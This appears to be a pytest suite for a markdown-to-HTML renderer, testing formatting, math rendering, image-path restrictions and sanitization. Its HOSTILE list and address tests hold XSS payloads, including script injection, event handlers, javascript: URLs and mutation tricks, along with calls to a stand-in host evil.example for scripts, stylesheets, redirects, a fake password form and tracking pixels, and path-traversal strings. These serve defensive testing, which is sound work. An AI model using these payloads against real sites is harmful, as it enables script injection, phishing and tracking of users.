"""Markdown as HTML: it shows what the page says, and nothing of it runs."""

from __future__ import annotations

import time
from html.parser import HTMLParser

import pytest

from tasks.rendering import render_markdown

TAGS = set(
    "a b blockquote br caption center code col colgroup del div em figcaption figure h1 h2 h3 h4 h5 h6 hr i img ins li"
    " mark ol p pre s small span strong sub sup table tbody td tfoot th thead tr u ul".split()
)
ATTRIBUTES = {"align", "alt", "class", "colspan", "href", "rel", "rowspan", "span", "src", "start", "title"}


class Elements(HTMLParser):
    """The elements that a browser would make of HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


@pytest.mark.parametrize(
    "markdown, html",
    [
        (
            "# T\n\na *b* **c** ~~d~~ `e`",
            "<h1>T</h1>\n<p>a <em>b</em> <strong>c</strong> <s>d</s> <code>e</code></p>\n",
        ),
        ("2. a\n3. b", '<ol start="2">\n<li>a</li>\n<li>b</li>\n</ol>\n'),
        ("H<sub>2</sub>O", "<p>H<sub>2</sub>O</p>\n"),
        ("a<br>b", "<p>a<br>b</p>\n"),
        ("", ""),
    ],
)
def test_markdown(markdown: str, html: str) -> None:
    assert render_markdown(markdown) == html


def test_tables_say_their_alignment_without_style() -> None:
    html = render_markdown("| a | b |\n|:-:|--:|\n| 1 | 2 |")
    assert '<th align="center">a</th>\n<th align="right">b</th>' in html
    assert "style" not in html


def test_tables_that_an_engine_wrote_as_html() -> None:
    table = '<table><tbody><tr><td colspan="2">a $x<1$</td></tr></tbody></table>'
    assert render_markdown(table) == table.replace("$x<1$", '<span class="math inline">x&lt;1</span>')


@pytest.mark.parametrize(
    "markdown, html",
    [
        ("$E=mc^2$", '<p><span class="math inline">E=mc^2</span></p>\n'),
        (r"\(a<b\)", '<p><span class="math inline">a&lt;b</span></p>\n'),
        ("$$\n\\frac{a}{b} & \\theta\n$$", '<div class="math block">\\frac{a}{b} &amp; \\theta</div>\n'),
        ("\\[\na\n+ b\n\\]", '<div class="math block">a\n+ b</div>\n'),
        ("text\n\\[\nx\n\\]\nmore", '<p>text</p>\n<div class="math block">x</div>\n<p>more</p>\n'),
        ("so $$x$$ it is", '<p>so <span class="math block">x</span> it is</p>\n'),
        (r"so \[x\] it is", '<p>so <span class="math block">x</span> it is</p>\n'),
        ("from $5 to $10", "<p>from $5 to $10</p>\n"),
        ("$20 and $30.", "<p>$20 and $30.</p>\n"),
        ("pay $5/$6", "<p>pay $5/$6</p>\n"),
        (r"\$a$ b", "<p>$a$ b</p>\n"),
        ("`$a$`", "<p><code>$a$</code></p>\n"),
        (r"open \(a and \[b", "<p>open (a and [b</p>\n"),
        (
            "$<script>alert(1)</script>$",
            '<p><span class="math inline">&lt;script&gt;alert(1)&lt;/script&gt;</span></p>\n',
        ),
        ("- a\n\n  $$\n  x\n  $$", '<ul>\n<li>\n<p>a</p>\n<div class="math block">x</div>\n</li>\n</ul>\n'),
    ],
)
def test_formulas(markdown: str, html: str) -> None:
    assert render_markdown(markdown) == html


HOSTILE = [
    "<script>alert(1)</script>",
    "text <script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<table><tr><td onclick=alert(1) style='background:url(//evil.example)'>x</td></tr></table>",
    "<div style='position:fixed;inset:0'><form action=//evil.example><input name=password></form></div>",
    "<b onmouseover=alert(1)>x</b>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&#58;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](/\\evil.example/pixel.png)",
    "![x](</\t/evil.example>)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](javascript:alert(1))",
    '![x](a.png "y\\" onerror=\\"alert(1)")',
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<object data=x><embed src=x>",
    "<p id=documents name=x class='row is-hidden'>x</p>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "$x$<td title='$</td><script>alert(1)</script>$'>",
    "```html\n<script>alert(1)</script>\n```",
    "<scr\0ipt>alert(1)</script>",
    "<table title='<img src=x onerror=alert(1)>'><tr><td>$a='<img src=x onerror=alert(1)>'$",
]


@pytest.mark.parametrize("markdown", HOSTILE)
def test_nothing_of_a_page_runs_loads_or_restyles(markdown: str) -> None:
    for text in (markdown, f"- {markdown}", f"| a |\n|---|\n| {markdown} |"):
        elements = Elements(render_markdown(text, images="/results/1/images/")).found
        assert {tag for tag, _attributes in elements} <= TAGS
        for tag, attributes in elements:
            assert set(attributes) <= ATTRIBUTES
            assert set((attributes.get("class") or "").split()) <= {"math", "inline", "block"}
            assert (attributes.get("href") or "https:").startswith(("https:", "http:", "mailto:"))
            assert tag != "img" or not attributes.get("src")


def sources(markdown: str, images: str = "/results/1/images/") -> list[str | None]:
    found = Elements(render_markdown(markdown, images=images)).found
    return [attributes.get("src", "") for tag, attributes in found if tag == "img"]


def test_a_documents_own_figures_are_shown() -> None:
    table = "| a |\n|---|\n| ![](images/0002_1.jpg) |"
    assert sources(f"![](images/0001_1.jpg)\n\n- ![x](images/0001_12.jpg)\n\n{table}") == [
        "/results/1/images/0001_1.jpg",
        "/results/1/images/0001_12.jpg",
        "/results/1/images/0002_1.jpg",
    ]


def test_without_an_address_for_figures_there_are_none() -> None:
    assert sources("![](images/0001_1.jpg)", images="") == [""]


@pytest.mark.parametrize(
    "address",
    [
        "/logout",
        "a.png",
        "images/a.jpg",
        "images/0001_1.png",
        "images/../0001_1.jpg",
        "images/%2e%2e/0001_1.jpg",
        "images//0001_1.jpg",
        "/images/0001_1.jpg",
        "./images/0001_1.jpg",
        "images/0001_1.jpg?x",
        "images/0001_1.jpg#x",
        "images/٠٠٠١_1.jpg",
        "/results/2/images/0001_1.jpg",
        "//evil.example/images/0001_1.jpg",
        "https://evil.example/images/0001_1.jpg",
        "data:image/jpeg;base64,aaaa",
    ],
)
def test_no_other_image_is_loaded(address: str) -> None:
    assert sources(f"![x]({address})") == [""]
    assert sources(f"![][1]\n\n[1]: {address}") in ([""], [])


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "Dear <Name>, you owe <amount>",
        "if a < b && c > d",
        "<!-- page 3 --> text",
        "<!-- never closed\n\nthe rest of the page",
        "<img src=x onerror=alert(1)>",
        "<?xml version='1.0'?> text",
    ],
)
def test_nothing_of_a_page_vanishes(text: str) -> None:
    shown = " ".join(Elements(render_markdown(text)).text.split())
    assert shown == " ".join(text.split())


def test_links_leave_without_a_trace() -> None:
    assert render_markdown("[x](https://a.example/)") == (
        '<p><a href="https://a.example/" rel="noopener noreferrer nofollow">x</a></p>\n'
    )


@pytest.mark.parametrize(
    "text",
    [
        "[" * 50_000, "$a " * 50_000, "$$a " * 50_000, "\\(" * 50_000, "\\[\n" * 20_000, "*a " * 50_000,
        "<div>" * 100_000, "<" * 100_000, "![](" * 20_000, "<table>" + "$a" * 50_000, "<!--" * 20_000,
        "<div " * 20_000, "&" * 100_000, "<p>" * 50_000, "<td $" * 30_000,
    ],
    ids=lambda text: text[:7],
)  # fmt: skip
def test_no_page_stalls_the_server(text: str) -> None:
    started = time.process_time()
    render_markdown(text)
    assert time.process_time() - started < 3
